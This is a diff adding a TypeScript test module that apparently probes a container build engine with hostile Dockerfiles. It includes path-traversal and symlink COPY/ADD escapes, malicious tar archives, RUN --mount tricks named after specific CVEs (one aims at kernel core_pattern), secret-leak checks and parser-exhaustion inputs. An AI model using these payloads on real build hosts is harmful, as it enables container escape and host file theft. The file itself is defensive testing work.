@@ -1,0 +1,333 @@
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { gunzipSync } from 'node:zlib';
+import { commandLine, descendants } from '../support/processes.js';
+import { type TestMember, tar } from '../support/tar.js';
+import { type Attack, hasControlCharacters } from './attack.js';
+import { IMAGE } from './engine.js';
+import type { Scene } from './scene.js';
+
+/** A Dockerfile that is hostile, and its context. */
+
+type Files = Record<string, string | Uint8Array | { link: string }>;
+
+function context(scene: Scene, files: Files): string {
+  const folder = mkdtempSync(join(scene.ground.work, 'context-'));
+  for (const [name, content] of Object.entries(files)) {
+    mkdirSync(dirname(join(folder, name)), { recursive: true });
+    if (typeof content === 'object' && 'link' in content) symlinkSync(content.link, join(folder, name));
+    else writeFileSync(join(folder, name), content);
+  }
+  return folder;
+}
+
+/** Builds, and shows what came out of it. */
+async function build(
+  scene: Scene,
+  lines: string[],
+  files: Files = {},
+  flags: string[] = [],
+  show = 'cat /out /out/victim',
+) {
+  const image = `localhost/${scene.token}-built:1`;
+  const Dockerfile = `FROM ${IMAGE}\n${lines.join('\n')}\n`;
+  const args = ['build', '-t', image, ...flags, context(scene, { Dockerfile, ...files })];
+  const result = await scene.command(args, { deadline: 60_000 });
+  if (result.status === 0) {
+    await scene.shell(show, { image });
+    await scene.engine.command(['rmi', '-f', image]);
+  }
+  return result;
+}
+
+function attack(name: string, commit: Attack['commit'], rest: Partial<Attack> = {}): Attack {
+  return { name, aim: 'host read', by: 'Dockerfile', commit, ...rest };
+}
+
+const UP = '../../../../../../../../../..';
+
+export const BUILDS: Attack[] = [
+  attack('COPY of links that lead out of the context', async (scene) => {
+    const { folder, victim } = scene.ground;
+    const targets = { up: `${UP}${victim}`, absolute: victim, folder, climbing: `${UP}${folder}` };
+    for (const [name, target] of Object.entries(targets)) {
+      const files: Files = { [name]: { link: target } };
+      await build(scene, [`COPY ${name} /out`], files);
+      await build(scene, [`COPY ${name}/victim /out`], files);
+      await build(scene, [`ADD ${name}* /out/`], files);
+    }
+  }),
+  attack(
+    'COPY and ADD of names that climb up, by glob, by file://, by --parents and --from',
+    async (scene) => {
+      const { victim } = scene.ground;
+      for (const line of [
+        `COPY ${UP}${victim} /out`,
+        `COPY ${victim} /out`,
+        `ADD file://${victim} /out`,
+        `ADD --unpack=false ${UP}${victim} /out`,
+        `COPY --from=${IMAGE} ${UP}${victim} /out`,
+        `COPY */${UP}${victim} /out`,
+      ])
+        await build(scene, [line], { 'a/b': '' });
+    },
+  ),
+  attack('COPY --from of a link in an image', async (scene) => {
+    const { folder, victim } = scene.ground;
+    const made = `RUN mkdir /l; ln -s ${victim} /l/file; ln -s ${folder} /l/dir; ln -s /proc/self/fd/7${folder} /l/fd`;
+    for (const line of [
+      'COPY --from=0 /l/file /out',
+      'COPY --from=0 /l/dir/ /out/',
+      'COPY --from=0 /l/fd/ /out/',
+      'COPY --from=0 /l/dir/victim /out',
+    ])
+      await build(scene, [made, `FROM ${IMAGE}`, line]);
+  }),
+  attack(
+    'COPY to a place that is a link out of the image',
+    async (scene) => {
+      const { folder } = scene.ground;
+      for (const target of [folder, `${UP}${folder}`, `/proc/self/cwd/${UP}${folder}`])
+        for (const line of ['COPY new /l/new', 'COPY new victim /l/', 'WORKDIR /l/made', 'ADD new.tar /l/'])
+          await build(scene, [`RUN ln -s ${target} /l`, line], {
+            new: 'x',
+            victim: 'x',
+            'new.tar': tar({ name: 'victim', content: 'x' }),
+          });
+    },
+    { aim: 'host write', reference: 'CVE-2024-1753 (its class)' },
+  ),
+  attack(
+    'ADD of an archive with links, climbing names and hard links',
+    async (scene) => {
+      const { folder, victim } = scene.ground;
+      const archives: TestMember[][] = [
+        [
+          { name: 'l', type: '2', target: folder },
+          { name: 'l/new', content: 'x' },
+        ],
+        [{ name: `${UP}${folder}/new`, content: 'x' }],
+        [{ name: victim, content: 'x' }],
+        [
+          { name: 'h', type: '1', target: `${UP}${victim}` },
+          { name: 'h', content: 'x' },
+        ],
+      ];
+      for (const members of archives)
+        await build(scene, ['ADD a.tar /t/', 'RUN cat /t/h /t/l/victim; true'], { 'a.tar': tar(...members) });
+    },
+    { aim: 'host write' },
+  ),
+  attack('the ignore file and the Dockerfile are links out of the context', async (scene) => {
+    const { victim } = scene.ground;
+    await build(
+      scene,
+      ['COPY . /out/'],
+      { '.dockerignore': { link: victim }, '.containerignore': { link: victim } },
+      [],
+      'cat /out/.dockerignore /out/.containerignore',
+    );
+    // An archive from the network: whoever builds does not see what is in it.
+    const members: TestMember[] = [{ name: 'Dockerfile', type: '2', target: victim }];
+    await scene.command(['build', '-'], { input: tar(...members) });
+    const file = join(scene.ground.work, 'context.tar');
+    writeFileSync(
+      file,
+      tar(...members, { name: 'd', type: '2', target: scene.ground.folder }, { name: 'd/new', content: 'x' }),
+    );
+    await scene.command(['build', file]);
+  }),
+  attack(
+    'the source of masks is replaced: RUN --mount=target=/dev',
+    async (scene) => {
+      let isLost = false;
+      for (const target of ['/dev', '/dev/../dev', '/dev/pts', '/proc', '/proc/sys', '/sys']) {
+        const { status, output } = await build(
+          scene,
+          [
+            `RUN --mount=type=bind,source=d,target=${target},rw grep -E ' /proc/(keys|timer_list) ' /proc/self/mountinfo; echo seen; echo '|/tmp/evil' > /proc/keys; true`,
+          ],
+          { 'd/null': { link: '/proc/sys/kernel/core_pattern' }, 'd/ptmx': { link: scene.ground.victim } },
+          ['--no-cache'],
+        );
+        if (status === 0) isLost ||= /\/proc\/keys [^\n]* proc /.test(output);
+      }
+      return isLost;
+    },
+    { aim: 'escape', reference: 'CVE-2025-31133', alsoAsRoot: true },
+  ),
+  attack(
+    'RUN --mount whose source is a link out of an image or the context',
+    async (scene) => {
+      const { folder } = scene.ground;
+      const commands = 'cat /m/victim; echo x > /m/new; true';
+      const made = [`RUN ln -s ${folder} /l && ln -s / /root && ln -s ${UP}${folder} /up`];
+      for (const source of ['/l', `/root${folder}`, '/up', `/w/${UP}${folder}`])
+        await build(scene, [
+          ...made,
+          `FROM ${IMAGE}`,
+          `RUN --mount=type=bind,from=0,source=${source},target=/m,rw ${commands}`,
+        ]);
+      for (const link of [folder, `${UP}${folder}`])
+        await build(scene, [`RUN --mount=type=bind,source=l,target=/m,rw ${commands}`], { l: { link } });
+      await build(scene, [`RUN --mount=type=bind,source=${UP}${folder},target=/m,rw ${commands}`]);
+    },
+    { aim: 'escape', reference: 'CVE-2024-1753, CVE-2024-23651' },
+  ),
+  attack(
+    'RUN --mount whose place is a link, and is cleared away afterwards',
+    async (scene) => {
+      const { folder } = scene.ground;
+      const cases = [
+        [`RUN ln -s ${folder} /l`, 'RUN --mount=type=tmpfs,target=/l/made/deep true'],
+        [`RUN ln -s ${UP}${folder} /l`, 'RUN --mount=type=bind,target=/l/victim/x,rw true'],
+        [
+          `RUN --mount=type=tmpfs,target=/a/b rm -rf /x; mv /a /y 2>/dev/null; ln -s ${folder} /a 2>/dev/null; true`,
+        ],
+        [`RUN --mount=type=bind,source=f,target=/a/victim cd / && mkdir /z && ln -s ${folder} /z/a; true`],
+      ];
+      for (const lines of cases) await build(scene, lines, { f: 'x' });
+    },
+    { aim: 'host write', reference: 'CVE-2024-23652' },
+  ),
+  attack(
+    'RUN --mount=type=cache whose id or source climbs up, and one with links from the step before',
+    async (scene) => {
+      const { folder } = scene.ground;
+      const commands = 'cat /m/victim; echo x > /m/new; true';
+      for (const options of [
+        `id=${UP}${folder}`,
+        `id=${folder}`,
+        `source=${UP}${folder}`,
+        `id=x,from=${IMAGE},source=/w/${UP}${folder}`,
+      ])
+        await build(scene, [`RUN --mount=type=cache,${options},target=/m ${commands}`]);
+      const poisoned = `RUN --mount=type=cache,id=${scene.token},target=/m rm -rf /m/*; ln -s ${folder} /m/s`;
+      await build(scene, [
+        poisoned,
+        `RUN --mount=type=cache,id=${scene.token},source=s,target=/m ${commands}`,
+      ]);
+      await build(scene, [
+        poisoned,
+        `RUN --mount=type=cache,id=${scene.token},target=/m ls /m/s/; cat /m/s/victim; true`,
+      ]);
+    },
+    { aim: 'escape', reference: 'CVE-2024-9675' },
+  ),
+  attack(
+    'a secret is found in what the build leaves: layers, history, caches',
+    async (scene) => {
+      const file = join(scene.ground.work, 'secret');
+      writeFileSync(file, scene.ground.secret);
+      const image = `localhost/${scene.token}-secret:1`;
+      const lines = [
+        `FROM ${IMAGE}`,
+        'RUN --mount=type=secret,id=s cp /run/secrets/s /dev/shm/s; ln /run/secrets/s /kept; ls -la /run/secrets',
+        'RUN --mount=type=secret,id=s,target=/deep/in/s test -s /deep/in/s',
+      ];
+      const folder = context(scene, { Dockerfile: `${lines.join('\n')}\n` });
+      const args = ['build', '-t', image, '--secret', `id=s,src=${file}`, folder];
+      const { status } = await scene.command(args, { deadline: 60_000 });
+      if (status !== 0) return;
+      scene.reveal((await scene.engine.command(['history', '--no-trunc', image])).output);
+      scene.reveal(unpacked((await scene.engine.command(['save', image])).output));
+      await scene.engine.command(['rmi', '-f', image]);
+    },
+    { aim: 'leak' },
+  ),
+  attack(
+    'control characters in what a build prints: of ARG, ENV, LABEL, file names and commands',
+    async (scene) => {
+      const evil = '\x1b]0;evil\x07';
+      const lines = [`ARG A="${evil}"`, 'ENV E="$A"', `LABEL l="${evil}"`, `COPY "no${evil}such" /out`];
+      const { output } = await build(scene, lines);
+      const bad = await build(scene, [`NOSUCH${evil} x`]);
+      const unknown = await scene.command(['build', context(scene, { Dockerfile: `FROM no-such${evil}\n` })]);
+      return [output, bad.output, unknown.output].some(hasControlCharacters);
+    },
+    { aim: 'confusion' },
+  ),
+  attack(
+    'COPY --parents of more folders than a list has room for',
+    async (scene) => {
+      const files: Files = {};
+      for (let index = 0; index < 80; index++) files[`packages/p${index}/package.json`] = '{}';
+      const { output, status } = await build(
+        scene,
+        ['COPY --parents packages/*/package.json ./'],
+        files,
+        [],
+        'ls /packages | wc -l',
+      );
+      return /malloc|SIGSEGV|corrupt|Segmentation/.test(output) || status === null || status > 125;
+    },
+    { aim: 'escape', fosterOnly: 'this podman does not know COPY --parents' },
+  ),
+  attack(
+    'RUN leaves processes that go on after the step',
+    async (scene) => {
+      await build(scene, [
+        `RUN (setsid sh -c 'while true; do sleep 1; done' ${scene.token} &) ; attacker bomb 20 ${scene.token}`,
+      ]);
+      return descendants().some(({ pid }) => commandLine(pid).includes(scene.token));
+    },
+    { aim: 'exhaustion' },
+  ),
+  attack(
+    'a Dockerfile that is long, deep and slow to read',
+    async (scene) => {
+      const cases = [
+        `FROM ${IMAGE}\n${'RUN true \\\n'.repeat(20_000)}`,
+        `FROM ${IMAGE}\nENV ${'A='.repeat(50_000)}\n`,
+        `FROM ${IMAGE}\nENV X=${'${A:-'.repeat(2000)}x${'}'.repeat(2000)}\n`,
+        `FROM ${IMAGE}\nLABEL ${'"'.repeat(30_001)}\n`,
+        `${'FROM scratch\n'.repeat(3000)}`,
+        `FROM ${IMAGE}\nCOPY ${'[!'.repeat(3000)} ${'**/'.repeat(2000)}x /\n`,
+        `FROM ${IMAGE}\nRUN <<${'E'.repeat(1000)}\n`.repeat(50),
+      ];
+      for (const Dockerfile of cases) {
+        const { isTooLate, output } = await scene.command(
+          ['build', context(scene, { Dockerfile, 'a/a/a': '' })],
+          { deadline: 40_000 },
+        );
+        if (isTooLate || /unexpected error|panic:|stack/i.test(output.slice(-2000))) return true;
+      }
+      return false;
+    },
+    { aim: 'exhaustion' },
+  ),
+  attack(
+    'a pattern of the ignore file that takes for ever',
+    async (scene) => {
+      const name = 'a'.repeat(200);
+      const { isTooLate } = await scene.command(
+        [
+          'build',
+          context(scene, {
+            Dockerfile: `FROM ${IMAGE}\nCOPY . /t/\n`,
+            '.dockerignore': `${'*a'.repeat(60)}b\n${'**/'.repeat(60)}b\n`,
+            [name]: '',
+            [`d/${name}`]: '',
+          }),
+        ],
+        { deadline: 40_000 },
+      );
+      return isTooLate;
+    },
+    { aim: 'exhaustion' },
+  ),
+];
+
+/** All layers of a saved image, unpacked one after the other. */
+function unpacked(archive: string): string {
+  const bytes = Buffer.from(archive, 'latin1');
+  const found: string[] = [archive];
+  for (let at = bytes.indexOf('1f8b08', 0, 'hex'); at >= 0; at = bytes.indexOf('1f8b08', at + 1, 'hex')) {
+    try {
+      found.push(gunzipSync(bytes.subarray(at), { finishFlush: 2 }).toString('latin1'));
+    } catch {
+      // not the beginning of anything
+    }
+  }
+  return found.join('\n');
+}
